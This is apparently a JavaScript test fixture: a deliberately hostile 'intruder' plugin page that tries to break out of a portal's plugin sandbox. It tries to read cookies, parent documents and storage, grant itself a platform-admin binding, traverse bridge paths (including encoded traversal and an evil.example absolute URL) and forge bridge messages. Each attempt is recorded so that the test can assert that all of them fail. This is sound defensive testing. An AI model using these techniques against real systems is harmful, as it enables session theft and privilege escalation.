// A hostile plugin page: it tries, as the viewer (a platform administrator
// in the test), to read the session, to grant itself a binding and to call
// other APIs, directly and through the portal's bridge. It reports what it
// achieved in #report as JSON; the test asserts it achieved nothing.
import * as kit from '/ui/kit/kit.js';

var report = {};

function attempt(name, run) {
  return Promise.resolve().then(run).then(function (value) {
    report[name] = { ok: true, value: value };
  }, function (error) {
    report[name] = { ok: false, value: String(error && error.message || error) };
  });
}

function grant() {
  return JSON.stringify({ user: window.TARGET_USER, role: 'platform-admin', org: window.TARGET_ORG });
}

function readText(r) {
  return r.text().then(function (t) { return r.status + ' ' + t.slice(0, 300); });
}

var params = new URLSearchParams(location.search);
window.TARGET_USER = params.get('target') || 'target';
window.TARGET_ORG = 'org-650000';

var attacks = [
  ['cookie', function () { return document.cookie; }],
  ['parent_document', function () { return window.parent.document.body.innerHTML.length; }],
  ['top_storage', function () { return window.top.sessionStorage.length; }],
  ['local_storage', function () { return window.localStorage.length; }],
  ['fetch_me', function () {
    return fetch('/api/v1/me', { credentials: 'include' }).then(readText);
  }],
  ['fetch_csrf', function () {
    return fetch('/api/v1/auth/csrf', { credentials: 'include' }).then(readText);
  }],
  ['post_binding_cors', function () {
    return fetch('/api/v1/bindings', {
      method: 'POST', credentials: 'include',
      headers: { 'Content-Type': 'application/json' }, body: grant()
    }).then(readText);
  }],
  ['post_binding_no_cors', function () {
    // An opaque answer: it "succeeds" whatever happened; the test checks
    // the kernel's bindings instead.
    return fetch('/api/v1/bindings', {
      method: 'POST', mode: 'no-cors', credentials: 'include',
      headers: { 'Content-Type': 'text/plain' }, body: grant()
    }).then(function (r) { return 'opaque ' + r.type; });
  }],
  ['bridge_binding', function () {
    return kit.api('POST', '/api/v1/bindings', JSON.parse(grant())).then(bridgeResult);
  }],
  ['bridge_users', function () { return kit.api('GET', '/api/v1/users').then(bridgeResult); }],
  ['bridge_other_plugin', function () { return kit.api('GET', '/api/v1/p/hello/whoami').then(bridgeResult); }],
  ['bridge_traversal', function () { return kit.api('GET', '/api/v1/p/intruder/../hello/whoami').then(bridgeResult); }],
  ['bridge_encoded_traversal', function () { return kit.api('GET', '/api/v1/p/intruder/%2e%2e/%2e%2e/users').then(bridgeResult); }],
  ['bridge_absolute', function () { return kit.api('GET', '//evil.example/api/v1/p/intruder/').then(bridgeResult); }],
  ['bridge_me_secret', function () {
    return kit.api('GET', '/api/v1/me').then(function (res) {
      var text = JSON.stringify(res.body || {});
      if (/csrf|token|session/i.test(text)) return 'secret in ' + text;
      throw new Error('no secret: ' + res.status);
    });
  }],
  ['forged_nonce', function () {
    return new Promise(function (resolve, reject) {
      window.addEventListener('message', function (ev) {
        if (ev.data && ev.data.id === 999999) resolve('answered: ' + JSON.stringify(ev.data).slice(0, 200));
      });
      window.parent.postMessage({ tianshan: 'bridge', nonce: 'guess', id: 999999, op: 'request', method: 'GET', path: '/api/v1/users' }, '*');
      setTimeout(function () { reject(new Error('no answer')); }, 1500);
    });
  }]
];

// A bridged call counts as achieved only when the kernel answered 2xx.
function bridgeResult(res) {
  if (res.status >= 200 && res.status < 300) return res.status + ' ' + JSON.stringify(res.body).slice(0, 300);
  throw new Error('refused ' + res.status + ' ' + JSON.stringify(res.body));
}

kit.start({ plugin: 'intruder' }).then(function () {
  // The bridge works for the page's own plugin: proof the refusals above
  // are the bridge's policy, not a broken bridge.
  return kit.api('GET', '').then(function (res) { report.own_api = { ok: kit.ok(res), value: res.status }; });
}).then(function () {
  return attacks.reduce(function (p, a) {
    return p.then(function () { return attempt(a[0], a[1]); });
  }, Promise.resolve());
}).then(function () {
  var node = document.getElementById('report');
  node.textContent = JSON.stringify(report);
  node.setAttribute('data-done', 'true');
});
